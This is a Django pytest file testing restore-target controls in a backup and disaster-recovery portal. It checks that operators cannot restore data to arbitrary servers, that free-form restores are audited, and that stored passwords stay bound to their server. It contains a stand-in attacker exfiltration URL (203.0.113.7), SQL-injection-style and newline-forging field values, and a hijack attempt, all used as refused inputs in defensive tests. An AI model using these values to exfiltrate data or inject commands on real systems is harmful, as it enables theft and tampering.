"""Restore targets are registered: operators restore only to scratch or to a target a manager
registered; a free-form target (any host, credentials or path) is for managers and audited.

Replays of the attacks: an operator restoring to an arbitrary PostgreSQL server (exfiltration,
and a port-scan oracle through the error text) and the portal's own database to /tmp.
"""

import json
import uuid
from io import StringIO
from pathlib import Path

import pytest
from django.core.exceptions import ValidationError
from django.core.management import call_command
from django.core.management.base import CommandError
from django.urls import reverse
from django_q.models import OrmQ

from dr_portal.models import AuditEntry
from recovery import restores, tasks
from recovery.engine.pg import drop_database
from recovery.models import Restore, RestoreTarget
from recovery.restore_targets import NotAllowed
from tests.factories import BackupRunFactory, DestinationFactory, SourceFactory
from tests.recovery import conftest as recovery_fixtures
from tests.recovery.pgutil import SERVER, table_fingerprint
from tests.support.data import backup

pytestmark = pytest.mark.django_db

# Real sources backed up through the backups app's own code path (tests/recovery).
scratch_prefix = recovery_fixtures.scratch_prefix
pg_db = recovery_fixtures.pg_db
pg_source = recovery_fixtures.pg_source
sqlite_source = recovery_fixtures.sqlite_source

EVIL_URL = "postgresql://loot:hunter2@203.0.113.7:6543/exfil"


def restore_url(source):
    return reverse("recovery:restore_new", args=[source.pk])


def post_restore(client, source, run, capture, **fields):
    with capture(execute=True):
        return client.post(
            restore_url(source),
            {"backup_run": run.pk, "failure_type": "database_failure", **fields},
        )


def form_errors(response) -> str:
    form = response.context["form"]
    return " ".join(str(e) for errors in form.errors.values() for e in errors)


@pytest.fixture
def sqlite_target(tmp_path):
    (tmp_path / "restores").mkdir()
    return RestoreTarget.objects.create(
        name="staging-sqlite", kind="sqlite", path=str(tmp_path / "restores" / "tool_hub.db")
    )


# --- the attacks ---------------------------------------------------------------------


def test_operator_cannot_restore_to_an_arbitrary_postgres_server(
    operator_client, pg_source, django_capture_on_commit_callbacks
):
    run = backup(pg_source)
    response = post_restore(
        operator_client, pg_source, run, django_capture_on_commit_callbacks, target=EVIL_URL
    )
    assert response.status_code == 200
    assert "Only managers may restore to a free-form target" in form_errors(response)
    assert not Restore.objects.exists() and OrmQ.objects.count() == 0
    # The form shows operators no free-form input at all.
    page = operator_client.get(restore_url(pg_source)).content.decode()
    assert 'name="target"' not in page and 'name="restore_target"' in page


def test_the_service_refuses_an_operator_free_form_target_whoever_calls_it(operator, pg_source):
    run = backup(pg_source)
    with pytest.raises(NotAllowed, match="Only managers"):
        restores.start_restore(pg_source, target=EVIL_URL, backup_run=run, user=operator)
    with pytest.raises(NotAllowed, match="onto the source"):
        restores.start_restore(pg_source, onto_source=True, backup_run=run, user=operator)
    assert not Restore.objects.exists()


def test_operator_cannot_restore_the_portal_database_to_tmp(
    operator_client, django_capture_on_commit_callbacks, sqlite_target, tmp_path
):
    from backups.models import Source

    portal = Source.objects.get(is_portal_db=True)
    run = BackupRunFactory(source=portal, status="succeeded")
    store = DestinationFactory(name="l", kind="local", path=str(tmp_path / "store"))
    run.copies.create(destination=store, ok=True, location="x")
    response = post_restore(
        operator_client, portal, run, django_capture_on_commit_callbacks, target="/tmp/x.db"
    )
    assert response.status_code == 200
    assert "Only managers may restore to a free-form target" in form_errors(response)
    # A target for "any SQLite source" does not take the portal's own database either: it
    # must be registered for it by name.
    assert sqlite_target.sources.count() == 0
    response = post_restore(
        operator_client,
        portal,
        run,
        django_capture_on_commit_callbacks,
        restore_target=sqlite_target.pk,
    )
    assert response.status_code == 200 and "restore_target" in response.context["form"].errors
    assert not Restore.objects.exists() and OrmQ.objects.count() == 0
    assert not Path("/tmp/x.db").exists()


def test_operator_cannot_replace_data_at_a_target_that_does_not_allow_it(
    operator, sqlite_source, sqlite_target
):
    run = backup(sqlite_source)
    with pytest.raises(NotAllowed, match="replace data"):
        restores.start_restore(
            sqlite_source,
            restore_target=sqlite_target,
            backup_run=run,
            overwrite=True,
            user=operator,
        )
    sqlite_target.allow_replace = True
    sqlite_target.save()
    restore = restores.start_restore(
        sqlite_source, restore_target=sqlite_target, backup_run=run, overwrite=True, user=operator
    )
    assert restore.overwrite_confirmed and restore.restore_target == sqlite_target


def test_a_target_registered_for_other_sources_or_kinds_is_refused(
    operator, sqlite_source, sqlite_target, tmp_path
):

    other = SourceFactory(
        system=sqlite_source.system, name="other", kind="sqlite", path=str(tmp_path / "o.db")
    )
    sqlite_target.sources.set([other])
    run = backup(sqlite_source)
    with pytest.raises(ValueError, match="not registered for"):
        restores.start_restore(
            sqlite_source, restore_target=sqlite_target, backup_run=run, user=operator
        )
    pg_target = RestoreTarget.objects.create(
        name="pg", kind="postgresql", host="127.0.0.1", database="restored_*"
    )
    with pytest.raises(ValueError, match="receives PostgreSQL"):
        restores.start_restore(sqlite_source, restore_target=pg_target, backup_run=run)


# --- managers: free-form works and is audited ---------------------------------------------


def test_manager_free_form_restore_works_and_is_audited(
    manager_client, sqlite_source, work_dir, tmp_path, django_capture_on_commit_callbacks
):
    import sqlite3

    run = backup(sqlite_source)
    target = tmp_path / "free" / "copy.db"
    target.parent.mkdir()
    response = post_restore(
        manager_client, sqlite_source, run, django_capture_on_commit_callbacks, target=str(target)
    )
    restore = Restore.objects.get()
    assert response.status_code == 302 and OrmQ.objects.count() == 1
    assert restore.restore_target is None and restore.requested_by.username == "mona"
    entry = AuditEntry.objects.get(action="restore")
    assert "(free-form target)" in entry.detail and entry.actor_name == "mona"
    tasks.run_restore(restore.pk)
    restore.refresh_from_db()
    assert restore.status == "succeeded", restore.error
    with sqlite3.connect(target) as conn:
        assert conn.execute("SELECT COUNT(*) FROM workflows").fetchone()[0] == 20


def test_a_free_form_target_never_overlaps_the_portal_files(manager, sqlite_source, settings):
    run = backup(sqlite_source)
    targets = [str(Path(settings.VAR_DIR) / "x.db")]
    if settings.DATABASES["default"]["ENGINE"].endswith("sqlite3"):
        targets.append(settings.DATABASES["default"]["NAME"])  # the portal's database file
    for target in targets:
        with pytest.raises(ValueError, match="portal's own files"):
            restores.start_restore(sqlite_source, target=target, backup_run=run, user=manager)


# --- operators: a registered target, end to end ---------------------------------------------


@pytest.mark.slow
def test_operator_restores_to_a_registered_postgres_target_end_to_end(
    operator_client, pg_source, work_dir, django_capture_on_commit_callbacks
):
    run = backup(pg_source)
    prefix = f"dr_rt_{uuid.uuid4().hex[:8]}_"
    target = RestoreTarget.objects.create(
        name="staging-pg", kind="postgresql", host="127.0.0.1", port=5432, database=f"{prefix}*"
    )
    page = operator_client.get(restore_url(pg_source)).content.decode()
    assert "staging-pg" in page
    name = f"{prefix}copy"
    try:
        response = post_restore(
            operator_client,
            pg_source,
            run,
            django_capture_on_commit_callbacks,
            restore_target=target.pk,
            database_name=name,
        )
        assert response.status_code == 302, form_errors(response)
        restore = Restore.objects.get()
        assert restore.restore_target == target and OrmQ.objects.count() == 1
        assert restore.target == f"postgresql://postgres@127.0.0.1:5432/{name}"
        assert "(registered target staging-pg)" in AuditEntry.objects.get(action="restore").detail
        tasks.run_restore(restore.pk)
        restore.refresh_from_db()
        assert restore.status == "succeeded", restore.error
        for table in ("workflows", "executions"):
            assert table_fingerprint(SERVER.with_db(name), table) == table_fingerprint(
                pg_source.db, table
            )
    finally:
        drop_database(SERVER, name)


def test_a_database_name_outside_the_targets_pattern_is_refused(operator, pg_source):
    run = backup(pg_source)
    target = RestoreTarget.objects.create(
        name="staging-pg", kind="postgresql", host="127.0.0.1", database="restored_*"
    )
    for name in ("postgres", "other_db", "restored_x; DROP", ""):
        with pytest.raises(ValueError):
            restores.start_restore(
                pg_source,
                restore_target=target,
                database_name=name,
                backup_run=run,
                user=operator,
            )
    assert not Restore.objects.exists()


def test_connection_errors_name_the_target_not_the_host(operator, pg_source, work_dir):
    run = backup(pg_source)
    target = RestoreTarget.objects.create(
        name="down-pg", kind="postgresql", host="127.0.0.1", port=1, database="restored_x"
    )
    restore = restores.start_restore(
        pg_source, restore_target=target, backup_run=run, user=operator
    )
    restore = restores.execute_restore(restore)
    assert restore.status == "failed"
    assert restore.error == "could not connect to target down-pg"
    # The server's answer ("Connection refused", "timeout", "no pg_hba.conf entry") stays
    # in the server log: no oracle for which host or port answers.
    assert "127.0.0.1" not in restore.log.replace(restore.target, "")
    assert "refused" not in restore.log.lower() and "cannot connect" not in restore.log


# --- registering targets --------------------------------------------------------------------


def test_targets_are_listed_to_every_role_and_changed_only_by_managers(
    viewer_client, operator_client, manager_client, sqlite_target
):
    for client in (viewer_client, operator_client):
        page = client.get(reverse("recovery:restore_targets"))
        assert page.status_code == 200 and "staging-sqlite" in page.content.decode()
        assert "New restore target" not in page.content.decode()
        assert client.get(reverse("recovery:restore_target_new")).status_code == 403
        response = client.post(
            reverse("recovery:restore_target_edit", args=[sqlite_target.pk]),
            {"name": "hijacked", "kind": "postgresql", "host": "203.0.113.7"},
        )
        assert response.status_code == 403
    assert RestoreTarget.objects.get().name == "staging-sqlite"
    assert (
        "New restore target"
        in manager_client.get(reverse("recovery:restore_targets")).content.decode()
    )


def test_manager_registers_a_target_audited_and_the_password_is_bound_to_the_server(
    manager_client,
):
    url = reverse("recovery:restore_target_new")
    fields = {
        "name": "staging-pg",
        "kind": "postgresql",
        "host": "db.internal",
        "port": "5432",
        "user": "restorer",
        "database": "restored_*",
        "new_password": "s3cret-pass",
    }
    assert manager_client.post(url, fields).status_code == 302
    target = RestoreTarget.objects.get()
    assert target.password.reveal() == "s3cret-pass"
    assert AuditEntry.objects.filter(object_type="recovery.restoretarget", action="create").exists()
    edit = reverse("recovery:restore_target_edit", args=[target.pk])
    assert "s3cret-pass" not in manager_client.get(edit).content.decode()
    # Same server, blank password: kept.
    manager_client.post(edit, {**fields, "new_password": "", "notes": "x"})
    target.refresh_from_db()
    assert target.password.reveal() == "s3cret-pass"
    # A new port without a new password: the stored one is never sent there.
    response = manager_client.post(
        edit, {**fields, "new_password": "", "port": "6543"}, follow=True
    )
    target.refresh_from_db()
    assert target.port == 6543 and not target.password
    assert "stored password was cleared" in response.content.decode()
    # A new host with a new password: the new one is kept.
    manager_client.post(edit, {**fields, "host": "db2.internal", "new_password": "other-pass"})
    target.refresh_from_db()
    assert target.password.reveal() == "other-pass"


@pytest.mark.parametrize(
    "fields, field, message",
    [
        ({"kind": "sqlite", "path": "/etc/restored.db"}, "path", "outside the allowed roots"),
        ({"kind": "sqlite", "path": "{var}/portal-copy.db"}, "path", "portal's own files"),
        ({"kind": "files", "path": "{var}"}, "path", "portal's own files"),
        ({"kind": "postgresql", "host": "h", "database": "postgres"}, "database", "system"),
        ({"kind": "postgresql", "host": "h", "database": "a;b"}, "database", "letters"),
        ({"kind": "postgresql", "database": "x"}, "host", "host"),
        ({"kind": "postgresql", "host": "h", "database": "x", "port": "70000"}, "port", "65535"),
        ({"kind": "sqlite", "path": "/tmp/x.db", "name": "a\nforged line"}, "name", "letters"),
        ({"kind": "sqlite", "path": "/tmp/x.db", "name": "n" * 101}, "name", "at most 100"),
    ],
)
def test_bad_targets_are_refused_with_the_field_named(
    manager_client, settings, fields, field, message
):
    data = {"name": "t", **fields}
    data = {k: v.replace("{var}", str(settings.VAR_DIR)) for k, v in data.items()}
    response = manager_client.post(reverse("recovery:restore_target_new"), data)
    assert response.status_code == 400
    errors = response.context["form"].errors
    assert field in errors and message in " ".join(errors[field]), errors
    assert not RestoreTarget.objects.exists()


def test_a_target_cannot_be_a_sources_database_or_data(manager_client, pg_source, sqlite_source):
    url = reverse("recovery:restore_target_new")
    response = manager_client.post(
        url,
        {
            "name": "t",
            "kind": "postgresql",
            "host": "127.0.0.1",
            "port": "5432",
            "database": pg_source.database,
        },
    )
    assert "source toolhub-pg" in " ".join(response.context["form"].errors["database"])
    response = manager_client.post(url, {"name": "t", "kind": "sqlite", "path": sqlite_source.path})
    assert "source toolhub-db" in " ".join(response.context["form"].errors["path"])
    assert not RestoreTarget.objects.exists()


# --- the command line ------------------------------------------------------------------------


def call(*args) -> tuple[int, dict]:
    out = StringIO()
    try:
        call_command(*args, stdout=out)
        code = 0
    except SystemExit as exc:
        code = exc.code
    return code, json.loads(out.getvalue())


def test_command_needs_free_form_flag_for_an_unregistered_target(sqlite_source, tmp_path):
    run = backup(sqlite_source)
    with pytest.raises(CommandError, match="--free-form"):
        call_command("restore", str(run.pk), "--to", str(tmp_path / "x.db"), "--yes")
    with pytest.raises(CommandError, match="no restore target named"):
        call_command("restore", str(run.pk), "--target", "nope", "--yes")
    assert not Restore.objects.exists()


def test_command_restores_to_a_registered_target_and_audits_it(
    sqlite_source, sqlite_target, work_dir
):
    run = backup(sqlite_source)
    code, result = call("restore", str(run.pk), "--target", "staging-sqlite", "--yes", "--json")
    assert code == 0, result
    assert result["target"] == sqlite_target.path and Path(sqlite_target.path).exists()
    entry = AuditEntry.objects.get(action="restore")
    assert "(registered target staging-sqlite)" in entry.detail
    assert "manage.py restore" in entry.actor_name


def test_admin_uses_the_same_rules(superuser_client, settings):
    url = reverse("admin:recovery_restoretarget_add")
    page = superuser_client.get(url)
    assert page.status_code == 200 and 'name="new_password"' in page.content.decode()
    response = superuser_client.post(
        url, {"name": "evil", "kind": "sqlite", "path": f"{settings.VAR_DIR}/x.db"}
    )
    assert response.status_code == 200 and "portal&#x27;s own files" in response.content.decode()
    response = superuser_client.post(
        url,
        {
            "name": "staging-pg",
            "kind": "postgresql",
            "host": "db.internal",
            "database": "restored_*",
            "new_password": "s3cret-pass",
        },
    )
    assert response.status_code == 302
    target = RestoreTarget.objects.get()
    assert target.password.reveal() == "s3cret-pass"
    change = reverse("admin:recovery_restoretarget_change", args=[target.pk])
    assert "s3cret-pass" not in superuser_client.get(change).content.decode()
    assert AuditEntry.objects.filter(object_type="recovery.restoretarget", action="create").exists()


def test_another_name_for_a_sources_server_is_still_the_source(operator, pg_source, settings):
    """localhost is 127.0.0.1: a target there is the source's database, not a new one."""
    run = backup(pg_source)
    target = RestoreTarget(
        name="alias", kind="postgresql", host="localhost", port=5432, database=pg_source.database
    )
    with pytest.raises(ValidationError, match="source toolhub-pg"):
        target.full_clean()
    # Registered before the source existed (or in the admin shell): refused at restore time.
    target.save()
    target.allow_replace = True
    with pytest.raises(ValueError, match="source toolhub-pg"):
        restores.start_restore(
            pg_source, restore_target=target, backup_run=run, overwrite=True, user=operator
        )
    assert not Restore.objects.exists()


def test_deleting_a_target_keeps_the_restore_history(
    operator_client, manager_client, sqlite_source, sqlite_target
):
    run = backup(sqlite_source)
    restore = restores.start_restore(sqlite_source, restore_target=sqlite_target, backup_run=run)
    url = reverse("recovery:restore_target_delete", args=[sqlite_target.pk])
    assert operator_client.post(url).status_code == 403
    assert manager_client.get(url).status_code == 405
    assert manager_client.post(url).status_code == 302
    restore.refresh_from_db()
    assert not RestoreTarget.objects.exists()
    assert restore.restore_target is None and restore.target == sqlite_target.path
    assert AuditEntry.objects.filter(object_type="recovery.restoretarget", action="delete").exists()
    page = manager_client.get(reverse("recovery:restore_detail", args=[restore.pk]))
    assert page.status_code == 200


def test_target_list_query_count_does_not_grow_with_targets(viewer_client, sqlite_source, tmp_path):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    def count():
        with CaptureQueriesContext(connection) as ctx:
            assert viewer_client.get(reverse("recovery:restore_targets")).status_code == 200
        return len(ctx.captured_queries)

    RestoreTarget.objects.create(name="t0", kind="sqlite", path=str(tmp_path / "t0.db"))
    few = count()
    for i in range(1, 6):
        target = RestoreTarget.objects.create(
            name=f"t{i}", kind="sqlite", path=str(tmp_path / f"t{i}.db")
        )
        target.sources.set([sqlite_source])
    assert count() == few


def test_restore_target_pages_refuse_the_wrong_method(manager_client):
    assert manager_client.put(reverse("recovery:restore_target_new")).status_code == 405
